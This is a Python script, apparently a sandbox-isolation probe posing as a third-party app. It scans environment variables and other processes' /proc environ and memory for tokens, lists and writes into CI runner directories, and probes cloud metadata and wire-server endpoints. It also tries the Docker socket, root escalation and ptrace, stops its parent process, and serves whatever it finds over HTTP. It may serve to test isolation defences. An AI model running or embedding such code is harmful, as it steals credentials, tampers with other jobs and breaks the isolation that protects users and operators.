"""An app of a stranger's: it looks for secrets of the job, and serves what it found."""

import ctypes
import glob
import http.server
import os
import pathlib
import signal
import socket

WANTED = ("hf_alice", "aws-value", "GITHUB_", "INPUT_", "RUNNER_", "ACTIONS_")
METADATA = ("169.254.169.254", "127.0.0.1")  # of all clouds; and this machine, which answers at once
found, tried = [], 0


def attempt(what, steal):
    """Note what a try brought, if it brought anything."""
    global tried
    tried += 1
    try:
        booty = steal()
    except OSError:
        return
    if booty:
        found.append(f"{what}: {booty}")


def secrets_in(content):
    return [word for word in WANTED if word.encode() in content]


def others(name):
    for path in glob.glob(f"/proc/[0-9]*/{name}") + glob.glob(f"/proc/[0-9]*/task/*/{name}"):
        if path.split("/")[2] != str(os.getpid()):
            attempt(path, lambda path=path: secrets_in(pathlib.Path(path).read_bytes()))


def connect(address, port, protocol=0):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as opened:
        opened.settimeout(1)
        try:
            opened.connect((address, port))
        except ConnectionRefusedError:
            return "reached"
        return "connected"


def fast_open(address):
    with socket.socket() as opened:
        opened.settimeout(1)
        try:
            return opened.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (address, 80))
        except ConnectionRefusedError:
            return "reached"


def write(path):
    with open(path, "a") as file:
        file.write("stolen=1\n")
    return "written"


attempt("environment", lambda: secrets_in("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()))
others("environ")
others("mem")
for folder in ("/github", "/github/file_commands", "/home/runner", "/root", "/github/workspace"):
    attempt(folder, lambda folder=folder: os.listdir(folder))
for pattern in ("/tmp/runner-*", "/dev/shm/runner-*", "/tmp/*/runner-*", "/proc/*/root/tmp/runner-*"):
    for path in glob.glob(pattern):
        attempt(f"{path}/output", lambda path=path: write(f"{path}/output"))
        attempt(f"{path}/output", lambda path=path: pathlib.Path(f"{path}/output").read_text() + "read")
for address in METADATA:
    attempt(f"{address} by TCP", lambda address=address: connect(address, 80))
    attempt(f"{address} by MPTCP", lambda address=address: connect(address, 80, 262))
    attempt(f"{address} in the first packet", lambda address=address: fast_open(address))
attempt("the wire server", lambda: connect("168.63.129.16", 32526))
attempt("Docker", lambda: [path for path in ("/var/run/docker.sock",) if os.access(path, os.W_OK)])
attempt("another user", lambda: os.setuid(0) if os.getuid() else None)
attempt("ptrace", lambda: "attached" if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else "")
attempt("a signal", lambda: [pid for pid in (1,) if os.kill(pid, 0) is None])
os.kill(os.getppid(), signal.SIGSTOP)  # which keeps it, and is to end it
text = f"tried: {tried}, got: {', '.join(found) or 'nothing'}."
print(text, flush=True)


class Answer(http.server.BaseHTTPRequestHandler):
    """Answers with what was found."""

    def do_GET(self):
        """Answer any request."""
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["GRADIO_SERVER_PORT"])), Answer).serve_forever()
